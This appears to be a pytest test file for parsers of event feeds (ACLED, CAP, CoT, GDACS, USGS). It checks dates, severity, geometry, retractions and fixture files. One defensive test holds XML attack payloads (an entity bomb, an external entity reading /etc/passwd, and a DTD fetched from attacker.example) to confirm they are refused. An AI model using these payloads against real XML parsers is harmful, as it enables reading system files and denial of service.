"""What the event feeds (acled, cap, cot, gdacs, usgs) promise beyond the contract of every feed."""

from __future__ import annotations

import json
import math
import tracemalloc
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyproj
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st

from data.records import KIND_OF_NUMBER, Entry, Reject, Severity
from ingest.cot_events import split
from ingest.feed import Context, Feed, Payload, Source, parse
from ingest.feeds import acled, cap, cot, gdacs, usgs

RECEIVED = datetime(2026, 11, 20, 18, 0, tzinfo=UTC)


def items(feed: Feed, content: bytes | Path, **settings: Any) -> list[Entry | Reject]:
    source = Source(feed.name, feed.name, agency="Partner", **settings)
    payload = Payload(content.name, content) if isinstance(content, Path) else Payload("payload", content=content)
    return [item for batch in parse(feed, payload, Context(source, RECEIVED)) for item in batch]


def entries(feed: Feed, content: bytes | Path, **settings: Any) -> list[Entry]:
    found = items(feed, content, **settings)
    assert [item for item in found if isinstance(item, Reject)] == []
    return [item for item in found if isinstance(item, Entry)]


def body(entry: Entry) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(entry.body)
    return found


def one(feed: Feed, content: bytes, **settings: Any) -> dict[str, Any]:
    (entry,) = entries(feed, content, **settings)
    return body(entry)


def reasons(feed: Feed, content: bytes | Path, **settings: Any) -> list[str]:
    return [item.reason for item in items(feed, content, **settings) if isinstance(item, Reject)]


# -------------------- acled

HEADER = "event_id_cnty,event_date,event_type,sub_event_type,location,latitude,longitude,geo_precision,notes,fatalities"


def event(
    date: str = "2026-11-05", kind: str = "Battles", sub: str = "Armed clash", killed: str = "0", where: str = "1"
) -> str:
    return f"XTA1,{date},{kind},{sub},Nevo,-11.2,171.5,{where},Notes,{killed}"


def table(*lines: str, header: str = HEADER) -> bytes:
    return "\n".join([header, *lines, ""]).encode()


@pytest.mark.parametrize("date", ["05 November 2026", "5 November 2026", "05-Nov-26", "05-November-2026", "2026-11-05"])
def test_acled_dates_in_every_spelling_are_the_same_day(date: str) -> None:
    assert one(acled.FEED, table(event(date)))["event_time"] == "2026-11-05T00:00:00Z"


@pytest.mark.parametrize(
    ("kind", "sub", "killed", "severity"),
    [
        ("Protests", "Peaceful protest", "0", Severity.minor),
        ("Protests", "Excessive force against protesters", "0", Severity.serious),
        ("Strategic developments", "Agreement", "0", Severity.minor),
        ("Riots", "Mob violence", "0", Severity.moderate),
        ("Battles", "Armed clash", "0", Severity.moderate),
        ("Battles", "Armed clash", "1", Severity.serious),
        ("Battles", "Armed clash", "4", Severity.serious),
        ("Battles", "Armed clash", "5", Severity.severe),
        ("Battles", "Armed clash", "24", Severity.severe),
        ("Protests", "Peaceful protest", "25", Severity.critical),
        ("Violence against civilians", "Sexual violence", "0", Severity.serious),
        ("Violence against civilians", "Attack", "", Severity.moderate),
        ("Something new", "", "", Severity.unknown),
    ],
)
def test_acled_severity_is_the_worse_of_kind_and_deaths(kind: str, sub: str, killed: str, severity: Severity) -> None:
    assert one(acled.FEED, table(event(kind=kind, sub=sub, killed=killed))).get("severity", 0) == severity


def test_acled_deaths_not_said_are_not_zero() -> None:
    assert "fatalities" not in one(acled.FEED, table(event(killed="")))
    assert one(acled.FEED, table(event(killed="0")))["fatalities"] == 0
    assert one(acled.FEED, table(event(killed="1204")))["title"] == "Armed clash, 1,204 killed"


@pytest.mark.parametrize(
    ("code", "precision"), [("1", "exact"), ("2", "near"), ("3", "adm1"), ("4", "adm0"), ("", None)]
)
def test_acled_place_precision(code: str, precision: str | None) -> None:
    assert one(acled.FEED, table(event(where=code))).get("place_precision") == precision


def test_acled_reads_what_spreadsheets_and_r_make_of_it() -> None:
    excel = table(event().replace(",", ";"), header=HEADER.upper().replace(",", ";")).replace(
        b"Nevo", "Nèvo".encode("cp1252")
    )
    assert one(acled.FEED, excel)["place"] == "Nèvo"
    written_by_r = table('"1",' + event(killed="NA"), header='"",' + HEADER)
    found = one(acled.FEED, written_by_r)
    assert "fatalities" not in found
    assert found["attributes"] == {"column 1": "1"}
    tagged = table("#event+code,#date,#event+type,,#loc,#geo+lat,#geo+lon,,#description,#affected+killed", event())
    assert one(acled.FEED, tagged)["source_ref"] == "XTA1"


def test_acled_text_that_shows_as_what_it_is_not_is_made_plain() -> None:
    found = one(acled.FEED, table(event().replace("Notes", "a\x08b\x0cc\u202ed\x7fe")))
    assert found["description"] == "abcde"
    assert reasons(acled.FEED, table(event().replace("XTA1", "\u200e\u202e"))) == [
        "source_ref: has no visible character; every row needs the source's own key"
    ]


def test_acled_summaries_per_area_and_month_are_not_events() -> None:
    header = "location_code,admin1_name,event_type,events,fatalities,reference_period_start"
    summary = table("XTA,Kelira,political_violence,3,4,2026-10-01", header=header)
    assert acled.FEED.recognise(Payload("summary.csv", content=summary)) == 0
    with pytest.raises(ValueError, match="send ACLED's event rows"):
        items(acled.FEED, summary)


def test_acled_is_read_as_a_stream(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_bytes(table(*(event().replace("XTA1", f"XTA{n}").replace("Notes", "x" * 400) for n in range(40_000))))
    source = Source("acled", "acled")
    tracemalloc.start()
    try:
        assert sum(1 for _ in acled.FEED.rows(Payload(path.name, path), source)) == 40_000
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < path.stat().st_size / 3


def test_acled_real_files(fixtures_dir: Path) -> None:
    files = {path.name: path for path in (fixtures_dir / "acled").iterdir()}
    assert len({entry.source_ref for entry in entries(acled.FEED, files["ssd_conflict_data.csv"])}) == 2590
    assert len({entry.source_ref for entry in entries(acled.FEED, files["fabflee_mali2012_acled.csv"])}) == 234
    own = {name for name, path in files.items() if acled.FEED.recognise(Payload(name, path))}
    assert own == {"ssd_conflict_data.csv", "fabflee_mali2012_acled.csv"}


# -------------------- cap


def alert(status: str = "Actual", kind: str = "Alert", more: str = "", info: str = "", identifier: str = "w1") -> bytes:
    return (
        '<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
        f"<identifier>{identifier}</identifier><sender>met@example</sender><sent>2026-11-20T06:00:00-00:00</sent>"
        f"<status>{status}</status><msgType>{kind}</msgType><scope>Public</scope>{more}{info}</alert>"
    ).encode()


def info(language: str = "en", event: str = "Flood", severity: str = "Severe", more: str = "", area: str = "") -> str:
    return (
        f"<info><language>{language}</language><category>Met</category><event>{event}</event><urgency>Immediate</urgency>"
        f"<severity>{severity}</severity><certainty>Likely</certainty>{more}"
        f"<area><areaDesc>Coast</areaDesc>{area}</area></info>"
    )


@pytest.mark.parametrize("status", ["Exercise", "System", "Test", "Draft"])
def test_cap_a_drill_says_so_and_can_neither_be_nor_take_back_a_warning(status: str) -> None:
    real, drill = one(cap.FEED, alert(info=info())), one(cap.FEED, alert(status, info=info()))
    assert (drill["title"], drill["category"]) == (f"{status}: Flood", f"{status}: Flood")
    assert (real["title"], real["category"]) == ("Flood", "Flood")
    assert drill["severity"] == real["severity"] == Severity.severe
    assert drill["source_ref"] != real["source_ref"]
    cancelled = one(
        cap.FEED,
        alert(status, "Cancel", "<references>met@example,w1,2026-11-20T06:00:00Z</references>", identifier="w2"),
    )
    assert cancelled["source_ref"] == drill["source_ref"]


def test_cap_an_update_takes_back_what_it_refers_to_under_the_key_it_had() -> None:
    first = one(cap.FEED, alert(info=info()))
    references = (
        "<references>met@example,w1,2026-11-20T06:00:00-00:00 met@example,w2,2026-11-20T07:00:00-00:00</references>"
    )
    update, *taken_back = entries(cap.FEED, alert(kind="Update", more=references, info=info(), identifier="w2"))
    assert update.source_ref == "met@example,w2"
    assert [(entry.source_ref, entry.retracted) for entry in taken_back] == [(first["source_ref"], True)]
    assert taken_back[0].version_time_us == update.version_time_us


@pytest.mark.parametrize(
    ("language", "title"), [("en", "Flood"), ("fr", "Inondation"), ("fr-XT", "Inondation"), ("de", "Inondation")]
)
def test_cap_speaks_the_missions_language_and_keeps_the_others(language: str, title: str) -> None:
    content = alert(info=info("fr-FR", "Inondation") + info("en-US", "Flood") + info("ar", "فيضان"))
    found = one(cap.FEED, content, options={"language": language})
    assert found["title"] == title
    told = {found["title"], *(str(value) for name, value in found["attributes"].items() if name.startswith("event "))}
    assert told == {"Flood", "Inondation", "فيضان"}


def test_cap_speaks_with_its_worst_block_and_ends_with_its_last() -> None:
    early, late = "<expires>2026-11-20T10:00:00+00:00</expires>", "<expires>2026-11-21T10:00:00+03:00</expires>"
    found = one(cap.FEED, alert(info=info(severity="Minor", more=late) + info(severity="Extreme", more=early)))
    assert found["severity"] == Severity.critical
    assert found["expires"] == "2026-11-21T07:00:00Z"


def test_cap_areas_are_latitude_first_and_joined() -> None:
    square = "<polygon>-11,171 -11,172 -12,172 -12,171 -11,171</polygon>"
    (entry,) = entries(cap.FEED, alert(info=info(area=square + "<circle>-20.0,150.0 10</circle>")))
    assert entry.wkb is not None
    shape = shapely.from_wkb(entry.wkb)
    assert shape.bounds[0] == pytest.approx(149.904, abs=0.01)
    assert shape.contains(shapely.Point(171.5, -11.5))
    assert entry.lon is not None
    assert shape.contains(shapely.Point(entry.lon, entry.lat))


def test_cap_geometry_alone_makes_a_new_version() -> None:
    one_km, two_km = (alert(info=info(area=f"<circle>-11,171 {km}</circle>")) for km in (1, 2))
    before, after = entries(cap.FEED, one_km)[0], entries(cap.FEED, two_km)[0]
    assert before.wkb != after.wkb
    assert before.digest != after.digest


def test_cap_two_alerts_with_unlike_scope_are_unlike_sensitive() -> None:
    confined = alert(info=info()).replace(b"Public", b"Private")
    assert one(cap.FEED, confined)["sensitivity"] == 3
    assert "sensitivity" not in one(cap.FEED, alert(info=info()))  # the source's own, which is the default


BOMB = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FILE = b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
OUTSIDE = b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">'


@pytest.mark.parametrize("attack", [BOMB, FILE, OUTSIDE], ids=["bomb", "file", "outside"])
@pytest.mark.parametrize("feed", [cap.FEED, gdacs.FEED, cot.FEED], ids=lambda feed: feed.name)
def test_entities_are_refused_whole(feed: Feed, attack: bytes) -> None:
    content = {
        "cap": alert(info=info()),
        "gdacs": b"<rss><channel><item><guid>&a;</guid></item></channel></rss>",
        "cot": cot_event(),
    }
    with pytest.raises(ValueError, match="DOCTYPE"):
        items(feed, attack + content[feed.name])


def test_cap_real_files(fixtures_dir: Path) -> None:
    tally: Counter[str] = Counter()
    for path in sorted((fixtures_dir / "cap").iterdir()):
        for item in items(cap.FEED, path):
            tally["rejected" if isinstance(item, Reject) else "taken back" if item.retracted else "alert"] += 1
            assert not isinstance(item, Reject) or item.reason.startswith("alert: is not in this entry")
    assert tally == {"alert": 14, "taken back": 2, "rejected": 8}


# -------------------- cot


def cot_event(
    uid: str = "u1",
    cot_type: str = "a-f-G-U-C",
    point: str = 'lat="-11.2" lon="171.5" hae="10" ce="5" le="5"',
    detail: str = "",
) -> bytes:
    return (
        f'<event version="2.0" uid="{uid}" type="{cot_type}" time="2026-11-20T12:00:00Z" start="2026-11-20T12:00:00Z"'
        f' stale="2026-11-20T12:05:00Z" how="m-g"><point {point}/><detail>{detail}</detail></event>'
    ).encode()


@pytest.mark.parametrize(
    ("cot_type", "code", "affiliation"),
    [
        ("a-f-G-U-C", "SFGPUC----*****", "friend"),
        ("a-f-G-U-C-I", "SFGPUCI---*****", "friend"),
        ("a-h-G-U-C-I-d", "SHGPUCI---*****", "hostile"),
        ("a-f-G-I-U-T", "SFGPIUT---H****", "friend"),
        ("a-n-A-C-F-q", "SNAPCF----*****", "neutral"),
        ("a-s-S", "SSSP------*****", "hostile"),
        ("a-j-A-M-F", "SJAPMF----*****", "hostile"),
        ("a-p-P", "SPPP------*****", "unknown"),
        ("a-u-G", "SUGP------*****", "unknown"),
        ("a-.-X-i", "SUXP------*****", "unknown"),
        ("a-x-U", "SOUP------*****", "unknown"),
        ("a-f", "SFZP------*****", "friend"),
        ("a-f-G-U-C-V-A-T-H-E-X", "SFGPUCVATH*****", "friend"),
    ],
)
def test_cot_symbol_codes(cot_type: str, code: str, affiliation: str) -> None:
    found = one(cot.FEED, cot_event(cot_type=cot_type))
    assert (found["sidc"], found.get("affiliation", "unknown")) == (code, affiliation)
    assert len(found["sidc"]) == 15


@pytest.mark.parametrize(
    "point",
    [
        'lat="0.0" lon="0.0" hae="9999999.0" ce="9999999.0" le="9999999.0"',
        'lat="0" lon="0" hae="0" ce="9999999" le="9999999"',
        'lat="9999999.0" lon="9999999.0" hae="9999999.0" ce="9999999.0" le="9999999.0"',
    ],
)
def test_cot_unknown_is_no_place_on_the_equator(point: str) -> None:
    found = one(cot.FEED, cot_event(point=point, detail='<track course="9999999.0" speed="9999999.0"/>'))
    assert not {"lon", "lat", "accuracy_m", "course_deg", "speed_m_s", "place_precision"} & set(found)


def test_cot_drawings_measure_what_was_drawn() -> None:
    ellipse = cot_event(cot_type="u-d-c-c", detail='<shape><ellipse major="2000" minor="1000" angle="90"/></shape>')
    (entry,) = entries(cot.FEED, ellipse)
    assert entry.wkb is not None
    shape = shapely.from_wkb(entry.wkb)
    area, _ = pyproj.Geod(ellps="WGS84").geometry_area_perimeter(shape)
    assert abs(area) == pytest.approx(math.pi * 2000 * 1000, rel=0.01)
    west, south, east, north = shape.bounds
    assert (east - west) * math.cos(math.radians(11.2)) == pytest.approx(2 * (north - south), rel=0.02)


def test_cot_an_alarm_and_its_end_are_one_thing() -> None:
    alarm = cot_event("u1-9-1-1", "b-a-o-tbl", detail='<emergency type="911 Alert">ONE</emergency>')
    end = cot_event("u1-9-1-1", "b-a-o-can", detail='<emergency cancel="true">ONE</emergency>')
    on, off = entries(cot.FEED, alarm + end)
    assert (on.kind, on.source_ref) == (off.kind, off.source_ref)
    assert (on.retracted, off.retracted) == (False, True)
    assert body(on)["severity"] == Severity.critical


def test_cot_a_deletion_takes_back_what_it_links_to() -> None:
    named = entries(cot.FEED, cot_event("d", "t-x-d-d", detail='<link uid="u1" relation="none" type="a-f-G-U-C"/>'))
    assert [(KIND_OF_NUMBER[entry.kind].name, entry.source_ref) for entry in named] == [("track", "u1")]
    unnamed = entries(cot.FEED, cot_event("d", "t-x-d-d", detail='<link uid="u1" relation="none" type="none"/>'))
    assert {KIND_OF_NUMBER[entry.kind].name for entry in unnamed} == set(cot.FEED.kinds)
    assert all(entry.retracted and entry.source_ref == "u1" for entry in unnamed)


def test_cot_in_a_root_is_read_as_one_after_another() -> None:
    both = [cot_event("u1"), cot_event("u2")]
    declared = b'<?xml version="1.0" encoding="utf-16"?>'
    rooted = entries(cot.FEED, b"<?xml version='1.0'?>\n<events>\n" + b"\n".join(both) + b"\n</events>")
    assert (
        rooted
        == entries(cot.FEED, b"".join(declared + event for event in both))
        == entries(cot.FEED, b"\r\n".join(both))
    )


@given(
    st.lists(
        st.sampled_from([b"<event uid='a' q='>'>x</event>", b"<event uid='b'/>", b"<event uid='c'>", b" ", b"junk"])
    ),
    st.data(),
)
def test_cot_events_are_the_same_wherever_the_stream_is_cut(pieces: list[bytes], data: st.DataObject) -> None:
    stream = b"".join(pieces)
    whole, _ = split(stream)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(stream)), max_size=6)))
    found, rest = [], b""
    for start, end in zip([0, *cuts], [*cuts, len(stream)], strict=True):
        events, rest = split(rest + stream[start:end])
        found += events
    assert found == whole


def test_cot_real_files(fixtures_dir: Path) -> None:
    kinds: Counter[str] = Counter()
    for path in sorted((fixtures_dir / "cot").glob("*.cot")):
        (entry,) = entries(cot.FEED, path)
        kinds[f"{KIND_OF_NUMBER[entry.kind].name} {'drawn' if entry.wkb else 'point'}"] += 1
    assert kinds == {"report drawn": 5, "report point": 2, "track point": 2}
    with pytest.raises(ValueError, match="no CoT event"):
        items(cot.FEED, fixtures_dir / "cot" / "CloudTAK__arcgis-undeclared-xsi.kml")


# -------------------- gdacs


def disaster(more: str) -> bytes:
    return (
        '<rss xmlns:gdacs="http://www.gdacs.org" xmlns:geo="http://www.w3.org/2003/01/geo/wgs84_pos#"'
        ' xmlns:georss="http://www.georss.org/georss"><channel><item><title>Flood</title>'
        f"<gdacs:eventtype>FL</gdacs:eventtype><gdacs:eventid>7</gdacs:eventid>{more}</item></channel></rss>"
    ).encode()


def test_gdacs_a_later_episode_is_the_same_event_revised() -> None:
    first = disaster("<gdacs:episodeid>1</gdacs:episodeid><gdacs:todate>Wed, 18 Nov 2026 00:00:00 GMT</gdacs:todate>")
    later = disaster("<gdacs:episodeid>2</gdacs:episodeid><gdacs:todate>Thu, 19 Nov 2026 00:00:00 GMT</gdacs:todate>")
    (before,), (after,) = entries(gdacs.FEED, first), entries(gdacs.FEED, later)
    assert before.source_ref == after.source_ref == "FL7"
    assert before.digest != after.digest
    assert before.version_time_us is not None
    assert after.version_time_us is not None
    assert before.version_time_us < after.version_time_us


@pytest.mark.parametrize("zone", ["UTC", "Pacific/Fiji"])
def test_gdacs_gmt_is_gmt_in_every_mission(zone: str) -> None:
    content = disaster("<gdacs:fromdate>Wed, 18 Nov 2026 03:00:00 GMT</gdacs:fromdate>")
    assert one(gdacs.FEED, content, timezone=zone)["event_time"] == "2026-11-18T03:00:00Z"


def test_gdacs_boxes_are_longitudes_first() -> None:
    (entry,) = entries(gdacs.FEED, disaster("<gdacs:bbox>27.9 35.9 35.5 43.5</gdacs:bbox>"))
    assert entry.wkb is not None
    assert shapely.from_wkb(entry.wkb).bounds == (27.9, 35.5, 35.9, 43.5)


def test_gdacs_real_files(fixtures_dir: Path) -> None:
    for path in sorted((fixtures_dir / "georss").glob("*gdacs*.xml")):
        found = entries(gdacs.FEED, path)
        assert found, path.name
        assert all(entry.lon is not None and entry.event_time_us is not None for entry in found)


# -------------------- usgs


def quake(**said: Any) -> bytes:
    properties = {
        "mag": None,
        "place": "Nevo",
        "time": 1_795_000_000_000,
        "updated": 1_795_000_000_000,
        "title": "M",
        **said,
    }
    feature = {
        "type": "Feature",
        "id": "q1",
        "properties": properties,
        "geometry": {"type": "Point", "coordinates": [171.5, -11.2, 9]},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


@pytest.mark.parametrize(
    ("mag", "alert", "severity"),
    [
        (None, None, Severity.unknown),
        (3.9, None, Severity.minor),
        (4.0, None, Severity.moderate),
        (5.0, None, Severity.serious),
        (6.0, None, Severity.severe),
        (7.0, None, Severity.critical),
        (7.9, "green", Severity.minor),
        (5.1, "red", Severity.critical),
    ],
)
def test_usgs_severity(mag: float | None, alert: str | None, severity: Severity) -> None:
    assert one(usgs.FEED, quake(mag=mag, alert=alert)).get("severity", 0) == severity


@pytest.mark.parametrize(
    ("milliseconds", "time"),
    [(0, "1970-01-01T00:00:00Z"), (50_000_000_000, "1971-08-02T16:53:20Z"), (-50_000_000_000, "1968-06-01T07:06:40Z")],
)
def test_usgs_times_are_milliseconds_near_1970_too(milliseconds: int, time: str) -> None:
    assert one(usgs.FEED, quake(time=milliseconds))["event_time"] == time


def test_usgs_an_empty_collection_is_readable_and_has_no_rows() -> None:
    assert items(usgs.FEED, b'{"type": "FeatureCollection", "features": []}') == []


@pytest.mark.parametrize("content", [b"[]", b"{}", b'"text"', b'{"features": {}}', b"[" * 100_000])
def test_usgs_other_json_is_refused_in_words(content: bytes) -> None:
    with pytest.raises(ValueError, match="payload"):
        items(usgs.FEED, content)


def test_usgs_real_files(fixtures_dir: Path) -> None:
    three, none = sorted((fixtures_dir / "usgs").glob("*.json"))
    assert usgs.FEED.recognise(Payload(three.name, three)) >= 50
    assert len(entries(usgs.FEED, three)) == 3
    assert items(usgs.FEED, none) == []
